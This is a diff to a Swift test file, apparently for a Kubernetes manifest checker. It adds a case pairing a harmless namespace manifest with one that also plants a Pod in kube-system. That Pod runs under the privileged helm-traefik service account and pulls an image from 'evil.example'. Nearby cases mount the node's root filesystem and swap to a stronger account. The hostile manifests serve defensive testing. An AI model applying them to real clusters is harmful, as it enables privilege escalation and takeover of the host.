@@ -166,6 +166,17 @@ import Testing
       "a path of the node", "serviceAccountName: svclb",
       "serviceAccountName: svclb\n      volumes: [{name: h, hostPath: {path: /}}]"
     ),
+    (
+      "a pod that runs as the vendor's account", "{apiVersion: v1, kind: Namespace, metadata: {name: shop}}",
+      """
+      {apiVersion: v1, kind: Namespace, metadata: {name: shop}}
+      ---
+      apiVersion: v1
+      kind: Pod
+      metadata: {name: helper, namespace: kube-system}
+      spec: {serviceAccountName: helm-traefik, containers: [{name: c, image: "evil.example/x:1"}]}
+      """
+    ),
     ("a mightier account", "serviceAccountName: svclb", "serviceAccountName: helm-traefik"),
   ]
 
